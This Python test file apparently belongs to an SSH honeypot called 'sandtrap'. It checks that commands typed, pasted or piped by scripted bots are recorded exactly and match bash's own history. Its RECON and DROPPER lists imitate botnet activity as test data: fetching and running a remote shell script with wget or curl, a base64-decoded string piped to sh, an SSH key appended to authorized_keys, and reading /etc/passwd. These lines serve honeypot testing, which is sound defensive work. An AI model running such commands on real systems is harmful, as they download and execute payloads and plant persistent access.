"""Scripted attackers lose nothing: piped PTY sessions run, zero-size PTYs record right, and every
line bash reads becomes one `session.command`, equal to the history bash itself kept.

Real engine, real clients: OpenSSH (`ssh -tt` fed from a pipe) and asyncssh as a bot that types or
pastes. The piped session is compared with Debian's real sshd on loopback.
"""

from __future__ import annotations

import asyncio
import io
import json
import os
import re
import socket
import subprocess
import tarfile
import time
from collections.abc import Iterator
from pathlib import Path

import asyncssh
import pytest

from sandtrap.sandbox.docker import Engine
from sandtrap.testing import OPENSSH_CLIENT_OPTIONS
from tests.docker.service import RunningService, remove_sensor_containers, service_config

pytestmark = [pytest.mark.docker, pytest.mark.usefixtures("docker_engine")]

SSHD = Path("/usr/sbin/sshd")
PASSWORD = "123456"

# What bots run after login (no line reads stdin, none repeats the line before it, none clears
# the history, so bash's own history file holds every line).
RECON = [
    "uname -a",
    "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "ls -lh $(which ls)",
    "crontab -l",
    "w",
    "uname -m",
    "cat /proc/cpuinfo | grep model | grep name | wc -l",
    "top -bn1 | head -3",
    'echo "ZWNobyBkcm9wcGVyLXJhbg==" | base64 -d | sh',
    "exit",
]
DROPPER = [
    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /",
    "wget -q -T 2 http://127.0.0.1:9/bins.sh || curl -s -m 2 -O http://127.0.0.1:9/bins.sh",
    "chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh",
    "echo 'ssh-rsa AAAAB3NzaC1yc2E bot@x' >> ~/.ssh/authorized_keys",
    "cat /etc/passwd | grep -c sh",
    "exit",
]


def _history_tail(container_id: str, count: int) -> list[str]:
    """The last `count` lines of root's ~/.bash_history in the stopped sandbox."""

    async def read() -> bytes | None:
        engine = Engine("unix:///var/run/docker.sock")
        try:
            return await engine.archive(container_id, "/root/.bash_history", limit=1 << 20)
        finally:
            await engine.close()

    data = asyncio.run(read())
    assert data is not None, "bash wrote no history"
    with tarfile.open(fileobj=io.BytesIO(data)) as archive:
        member = archive.next()
        assert member is not None
        handle = archive.extractfile(member)
        assert handle is not None
        return handle.read().decode().splitlines()[-count:]


def _commands(service: RunningService, session: str) -> list[str]:
    return [str(e["input"]) for e in service.events("session.command", session=session)]


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningService]:
    config = service_config(tmp_path_factory.mktemp("capture") / "var")
    running = RunningService(config).start()
    try:
        running.wait_warm()
        yield running
    finally:
        running.stop()
        remove_sensor_containers(config.sensor)


def _piped(
    port: int, script: bytes, prefix: list[str], extra: list[str]
) -> subprocess.CompletedProcess[bytes]:
    # `ssh -tt` with a pipe for stdin: a PTY of 0x0, the script written before the prompt, EOF
    # right after it, as bots and `printf ... | ssh -tt` do.
    argv = [*prefix, "ssh", "-tt", "-p", str(port), *extra, *OPENSSH_CLIENT_OPTIONS]
    argv.append("root@127.0.0.1")
    return subprocess.run(argv, input=script, capture_output=True, timeout=60, check=False)


def _output_lines(raw: bytes) -> set[str]:
    text = re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", raw.decode("utf-8", "replace"))
    return {line.strip() for line in re.split(r"[\r\n]+", text)}


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port: int = sock.getsockname()[1]
        return port


def _session_of_newest_shell(service: RunningService, before: int) -> str:
    """The session of the first shell opened after `before` shells; waits for its close."""
    deadline = time.monotonic() + 60
    while True:
        shells = service.events("session.shell")
        if len(shells) > before:
            session = str(shells[before]["session"])
            if service.events("session.closed", session=session):
                return session
        assert time.monotonic() < deadline, "the session did not close"
        time.sleep(0.1)


# --- piped PTY sessions, against Debian's real sshd ---------------------------------------------


@pytest.fixture(scope="module")
def real_sshd(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[int, Path]]:
    """Debian's sshd on 127.0.0.1, root by a throwaway key (the commands compared are harmless)."""
    if os.geteuid() != 0 or not SSHD.exists():
        pytest.skip("needs root and openssh-server (as in make test)")
    work = tmp_path_factory.mktemp("realsshd")
    for name in ("host", "client"):
        subprocess.run(
            ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(work / name)], check=True
        )
    (work / "authorized_keys").write_text((work / "client.pub").read_text())
    port = _free_port()
    (work / "sshd_config").write_text(
        f"Port {port}\nListenAddress 127.0.0.1\nHostKey {work / 'host'}\n"
        f"PidFile {work / 'pid'}\nUsePAM no\nStrictModes no\nPasswordAuthentication no\n"
        f"PermitRootLogin prohibit-password\nAuthorizedKeysFile {work / 'authorized_keys'}\n"
    )
    Path("/run/sshd").mkdir(mode=0o755, exist_ok=True)
    proc = subprocess.Popen(
        [str(SSHD), "-D", "-e", "-f", str(work / "sshd_config")],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        assert proc.stderr is not None
        line = proc.stderr.readline()
        assert "Server listening" in line, line
        yield port, work / "client"
    finally:
        proc.terminate()
        proc.wait(timeout=10)
        if proc.stderr is not None:
            proc.stderr.close()


def test_piped_pty_session_runs_every_command_like_real_sshd(
    service: RunningService, real_sshd: tuple[int, Path]
) -> None:
    # A 0x0 PTY, the script typed ahead of the prompt (with two rubbed-out keys), then EOF.
    script = b"uname -s\necho piped-$((6*7))\nid -u\necho mXX\x7f\x7f\nexit\n"
    real_port, key = real_sshd
    real = _piped(
        real_port,
        script,
        [],
        ["-i", str(key), "-o", "IdentitiesOnly=yes", "-o", "PubkeyAuthentication=yes"],
    )
    before = len(service.events("session.shell"))
    ours = _piped(service.port, script, ["sshpass", "-p", PASSWORD], [])
    assert real.returncode == ours.returncode == 0, (real.stderr, ours.stderr)
    for expected in ("Linux", "piped-42", "0", "m", "logout"):
        assert expected in _output_lines(real.stdout), (expected, real.stdout)
        assert expected in _output_lines(ours.stdout), (expected, ours.stdout)
    session = _session_of_newest_shell(service, before)
    (shell,) = service.events("session.shell", session=session)
    # The event keeps the size the client asked for; the cast is drawn as bash draws it.
    assert (shell["width"], shell["height"]) == (0, 0)
    header = json.loads(Path(str(shell["recording"])).read_text().splitlines()[0])
    assert (header["width"], header["height"]) == (80, 24)
    expected = ["uname -s", "echo piped-$((6*7))", "id -u", "echo m", "exit"]
    assert _commands(service, session) == expected


# --- every line bash reads is one event, equal to bash's own history -----------------------------


async def _bot(port: int, lines: list[str], mode: str) -> None:
    """Log in with a PTY (80x24) and send `lines` typed one key at a time or pasted at once."""
    async with asyncssh.connect(
        "127.0.0.1",
        port,
        username="root",
        password=PASSWORD,
        known_hosts=None,
        client_keys=None,
        agent_path=None,
    ) as conn:
        process = await conn.create_process(term_type="xterm", term_size=(80, 24), encoding=None)
        seen = b""
        async with asyncio.timeout(60):
            while b"# " not in seen:
                seen += await process.stdout.read(4096)
            if mode == "pasted":
                process.stdin.write("".join(line + "\n" for line in lines).encode())
            else:
                for line in lines:
                    for key in line.encode() + b"\r":
                        process.stdin.write(bytes((key,)))
                        await asyncio.sleep(0.001)
                    seen = b""
                    # A person waits for the next prompt before typing on.
                    while not seen.rstrip().endswith(b"#") and line != "exit":
                        seen += await process.stdout.read(4096)
            while await process.stdout.read(4096):
                pass
            await process.wait_closed()


@pytest.mark.parametrize("mode", ["typed", "pasted", "piped"])
@pytest.mark.parametrize("script", [RECON, DROPPER], ids=["recon", "dropper"])
def test_commands_equal_the_history_bash_kept(
    service: RunningService, script: list[str], mode: str
) -> None:
    before = len(service.events("session.shell"))
    if mode == "piped":
        payload = "".join(line + "\n" for line in script).encode()
        result = _piped(service.port, payload, ["sshpass", "-p", PASSWORD], [])
        assert result.returncode == 0, result.stderr
    else:
        asyncio.run(_bot(service.port, script, mode))
    session = _session_of_newest_shell(service, before)
    commands = _commands(service, session)
    assert commands == script
    (closed,) = service.events("session.closed", session=session)
    assert _history_tail(str(closed["container_id"]), len(script)) == commands
